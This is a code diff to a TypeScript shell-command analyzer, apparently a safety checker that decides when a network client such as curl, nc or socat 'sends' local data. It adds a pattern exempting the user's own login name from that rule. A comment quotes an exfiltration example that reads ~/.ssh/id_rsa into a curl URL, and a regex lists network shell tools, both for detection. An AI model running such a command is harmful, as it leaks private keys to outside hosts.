@@ -515,6 +515,9 @@ export const COPIERS = /^(?:cp|mv|ln|install|rsync)$/;
 /** Network clients: a word made when the line runs can carry local data out (`curl "https://x/?d=$(cat ~/.ssh/id_rsa)"`). */
 const NETWORK = /^(?:curl|wget|http|https|xh|httpie|dig|nslookup|host|ping|ping6|traceroute|tracepath|mtr|nc|ncat|netcat|socat|telnet|ssh|scp|sftp|ftp|whois|openssl|git|gh|aws|gcloud|az|getent|resolvectl|drill|kdig|delv|ssh-keyscan|ntpdate|sntp|nmap|docker|podman)$/;
 
+/** The person's own login name or id, as a word made when the line runs: no data of the folder's or a secret. */
+const IDENTITY = /^"?(?:\$\{?(?:USER|LOGNAME|UID)\}?|\$\((?:whoami|id -u|id -un|id -nu)\))"?$/;
+
 /**
  * getent asked of a database the machine keeps (`getent passwd "$USER"`, `group`, `services`), as `id` is: only its
  * hosts and networks are looked up in the DNS. (With `-s`, which names the service asked, it may be any.)
@@ -822,7 +825,7 @@ export function effectsOf(cmd: SimpleCommand, cwd: string, hosts: ReadonlySet<st
   }
   // (A word folded from a constant, `$(printf '%s' gi t)`, `$(date +%F)`, carries nothing of here.)
   const constant = (f: SimpleCommand) => /^(?:echo|printf|date)$/.test(f.argv[0] ?? "") && !f.dynamic.some(Boolean) && !f.argsFrom.length && !f.stdinFrom.length && !f.redirects.length && !(f.wrappers ?? []).length;
-  if (NETWORK.test(name) && !localLookup(name, args) && (cmd.dynamic.slice(1).some(Boolean) || cmd.argsFrom.some((f) => !constant(f))) && !identifiersOnly(cmd)) effects.add("sends");
+  if (NETWORK.test(name) && !(localLookup(name, args) && args.every((a, i) => !cmd.dynamic[i + 1] || IDENTITY.test(a))) && (cmd.dynamic.slice(1).some(Boolean) || cmd.argsFrom.some((f) => !constant(f))) && !identifiersOnly(cmd)) effects.add("sends");
   // What ssh's own options do here, whatever the remote runs: the agent or the environment handed to the host (`-A`,
   // `SendEnv`), a master left running (`-f`, `-M`, `ControlPersist`), a log written where `-E` says.
   for (const w of cmd.wrappers ?? []) {
